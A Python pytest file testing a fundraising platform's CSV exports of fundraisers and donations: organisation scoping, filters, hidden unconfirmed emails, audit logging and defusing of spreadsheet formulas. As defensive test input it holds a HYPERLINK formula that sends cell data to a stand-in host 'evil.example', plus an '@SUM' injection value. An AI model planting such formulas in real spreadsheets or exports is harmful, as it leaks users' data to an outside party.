"""Fundraiser CSVs for a nonprofit's API key (#15): their rows only, formula-safe, audited."""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import httpx
import pytest
from sqlalchemy import event

from campaigns.exports import donations, fundraiser_donations, fundraisers
from campaigns.exports.spec import Audience, stream_csv
from service import audit
from service.db import Database
from service.settings import Settings
from tests.campaigns.dashboard.fundraisers_scene import Scene, build_scene, gift
from tests.campaigns.fundraising.helpers import live_page, start
from tests.campaigns.giving.conftest import app, stripe_double
from tests.exports.builders import header, parse_csv
from tests.mail_server import SmtpServer

__all__ = ["app", "stripe_double"]
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Refund")'


@pytest.fixture
async def scene(
    client: httpx.AsyncClient, database: Database, settings: Settings, smtp_server: SmtpServer
) -> Scene:
    return await build_scene(client, database, settings, smtp_server)


class TestFundraisersCsv:
    async def test_one_row_per_own_page_with_raised_and_distinct_donors(
        self, client: httpx.AsyncClient, scene: Scene
    ) -> None:
        response = await client.get("/api/v1/exports/fundraisers.csv", headers=scene.org.headers)

        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        assert "nonprofit" not in header(response) and "distinct_donors" in header(response)
        rows = {row["fundraiser_id"]: row for row in parse_csv(response)}
        assert set(rows) == {str(scene.runner.id), str(scene.waiting.id)}
        runner, waiting = rows[str(scene.runner.id)], rows[str(scene.waiting.id)]
        assert (runner["raised"], runner["currency"], runner["distinct_donors"], runner["goal"]) == (
            "85.00",
            "EUR",
            "2",
            "500.00",
        )
        assert (waiting["status"], waiting["raised"], waiting["distinct_donors"], waiting["team"]) == (
            "pending_approval",
            "0.00",
            "0",
            "",
        )

    async def test_filters_narrow_and_never_widen_past_the_organisation(
        self, client: httpx.AsyncClient, scene: Scene
    ) -> None:
        live_only = await client.get(
            "/api/v1/exports/fundraisers.csv", params={"status": "live"}, headers=scene.org.headers
        )
        other = await client.get(
            "/api/v1/exports/fundraisers.csv",
            params={"campaign_id": scene.other_campaign["id"]},
            headers=scene.org.headers,
        )
        bad = await client.get(
            "/api/v1/exports/fundraisers.csv", params={"status": "x"}, headers=scene.org.headers
        )

        assert [r["fundraiser_id"] for r in parse_csv(live_only)] == [str(scene.runner.id)]
        assert parse_csv(other) == []
        assert bad.status_code == 422


@contextmanager
def statements_reading_gifts(database: Database) -> Iterator[list[str]]:
    """The SQL statements that read the gifts made through pages (what a tally walks)."""
    seen: list[str] = []

    def note(_conn: Any, _cursor: Any, statement: str, *_: Any) -> None:
        if "fundraiser_donations" in statement:
            seen.append(statement)

    event.listen(database.engine.sync_engine, "before_cursor_execute", note)
    try:
        yield seen
    finally:
        event.remove(database.engine.sync_engine, "before_cursor_execute", note)


async def download(database: Database, scene: Scene, *, page_size: int) -> tuple[bytes, int]:
    """The fundraisers CSV read `page_size` rows a page, and how often the gifts were read."""
    with statements_reading_gifts(database) as seen:
        stream = stream_csv(
            database,
            fundraisers.EXPORT,
            filters=fundraisers.FundraiserExportQuery(),
            nonprofit_id=uuid.UUID(scene.org.id),
            audience=Audience.NONPROFIT,
            page_size=page_size,
        )
        body = b"".join([chunk async for chunk in stream])
    return body, len(seen)


class TestFundraisersCsvSafety:
    async def test_an_address_nobody_confirmed_is_left_blank(
        self, client: httpx.AsyncClient, scene: Scene
    ) -> None:
        started = await start(client, scene.campaign["slug"], email="typed.by.anyone@example.org")
        assert started.status_code == 202, started.text

        response = await client.get("/api/v1/exports/fundraisers.csv", headers=scene.org.headers)

        emails = {(r["status"], r["email"], r["confirmed_at"] == "") for r in parse_csv(response)}
        assert emails == {
            ("pending_email", "", True),
            ("pending_approval", "piet@example.org", False),
            ("live", "anna@example.org", False),
        }

    async def test_each_campaign_is_counted_once_per_download(self, database: Database, scene: Scene) -> None:
        whole, counted_whole = await download(database, scene, page_size=500)
        paged, counted_paged = await download(database, scene, page_size=1)

        assert paged == whole  # the same bytes, whatever the page size
        assert whole.count(b"\r\n") == 1 + 2  # the header, the runner and the waiting page
        assert counted_whole > 0
        assert counted_paged == counted_whole  # not once per page of rows


class TestFundraiserDonationsCsv:
    async def test_each_gift_through_a_page_with_its_fundraiser_and_team(
        self, client: httpx.AsyncClient, scene: Scene
    ) -> None:
        response = await client.get("/api/v1/exports/fundraiser-donations.csv", headers=scene.org.headers)

        rows = parse_csv(response)
        assert [r["donation_id"] for r in rows] == scene.gifts
        assert {(r["fundraiser_id"], r["fundraiser"], r["team"]) for r in rows} == {
            (str(scene.runner.id), "Anna de Vries", "Runners")
        }
        assert [(r["amount"], r["status"]) for r in rows] == [
            ("25.00", "confirmed"),
            ("10.00", "confirmed"),
            ("50.00", "confirmed"),
        ]
        anonymous = rows[2]
        assert (anonymous["anonymous"], anonymous["donor_name"], anonymous["donor_email"]) == ("true", "", "")

    async def test_another_organisations_gifts_never_appear(
        self,
        client: httpx.AsyncClient,
        database: Database,
        settings: Settings,
        smtp_server: SmtpServer,
        scene: Scene,
    ) -> None:
        theirs = await gift(
            client,
            database,
            settings,
            scene.other_campaign["slug"],
            fundraiser=scene.other_page.slug,
            email="theirs@example.org",
            card="c" * 16,
        )

        mine = parse_csv(
            await client.get("/api/v1/exports/fundraiser-donations.csv", headers=scene.org.headers)
        )
        narrowed = parse_csv(
            await client.get(
                "/api/v1/exports/fundraiser-donations.csv",
                params={"fundraiser_id": str(scene.other_page.id)},
                headers=scene.org.headers,
            )
        )
        their_own = parse_csv(
            await client.get("/api/v1/exports/fundraiser-donations.csv", headers=scene.other_org.headers)
        )

        assert theirs not in {r["donation_id"] for r in mine}
        assert narrowed == []
        assert [r["donation_id"] for r in their_own] == [theirs]

    async def test_formulas_in_names_are_defused_and_each_download_is_audited(
        self,
        client: httpx.AsyncClient,
        database: Database,
        settings: Settings,
        smtp_server: SmtpServer,
        scene: Scene,
    ) -> None:
        page = await live_page(
            client, database, smtp_server, scene.other_campaign["slug"], name=FORMULA, email="f@example.org"
        )
        await gift(
            client,
            database,
            settings,
            scene.other_campaign["slug"],
            fundraiser=page.slug,
            email="g@example.org",
            card="d" * 16,
            name="@SUM(1+1)",
        )

        pages = parse_csv(
            await client.get("/api/v1/exports/fundraisers.csv", headers=scene.other_org.headers)
        )
        gifts = parse_csv(
            await client.get("/api/v1/exports/fundraiser-donations.csv", headers=scene.other_org.headers)
        )

        assert "'" + FORMULA in {r["name"] for r in pages}
        assert [(r["fundraiser"], r["donor_name"]) for r in gifts] == [("'" + FORMULA, "'@SUM(1+1)")]
        async with database.transaction() as session:
            downloads = await audit.list_entries(session, action="export.download")
        assert sorted(e.subject_id for e in downloads) == ["fundraiser-donations", "fundraisers"]
        assert {str(e.nonprofit_id) for e in downloads} == {scene.other_org.id}


class TestSharedDonationShape:
    """The fundraiser donations CSV is the donations CSV's row with the page in the middle."""

    def test_the_columns_are_the_donations_columns_around_the_page(self) -> None:
        def headers(export: Any, audience: Audience) -> list[str]:
            return [c.header for c in export.columns_for(audience)]

        gift = [
            "amount",
            "fee_cover",
            "refunded",
            "currency",
            "status",
            "anonymous",
            "donor_name",
            "donor_email",
        ]
        page = ["fundraiser_id", "fundraiser", "fundraiser_title", "team"]
        lead = [
            "donation_id",
            "created_at",
            "confirmed_at",
            "nonprofit_id",
            "nonprofit",
            "campaign_id",
            "campaign",
        ]

        assert headers(donations.EXPORT, Audience.ADMIN) == [
            *lead,
            *gift,
            "referral_code",
            "referral_channel",
        ]
        assert headers(fundraiser_donations.EXPORT, Audience.ADMIN) == [*lead, *page, *gift]
        assert headers(fundraiser_donations.EXPORT, Audience.NONPROFIT) == [
            h for h in [*lead, *page, *gift] if h not in ("nonprofit_id", "nonprofit")
        ]

    async def test_a_gift_reads_the_same_in_both_files(self, client: httpx.AsyncClient, scene: Scene) -> None:
        every = parse_csv(await client.get("/api/v1/exports/donations.csv", headers=scene.org.headers))
        through_pages = parse_csv(
            await client.get("/api/v1/exports/fundraiser-donations.csv", headers=scene.org.headers)
        )

        by_id = {row["donation_id"]: row for row in every}
        assert [r["donation_id"] for r in through_pages] == scene.gifts
        for row in through_pages:
            shared = {k: v for k, v in row.items() if k in by_id[row["donation_id"]]}
            assert len(shared) == len(row) - 4  # all but the page's four columns
            assert shared == {k: by_id[row["donation_id"]][k] for k in shared}
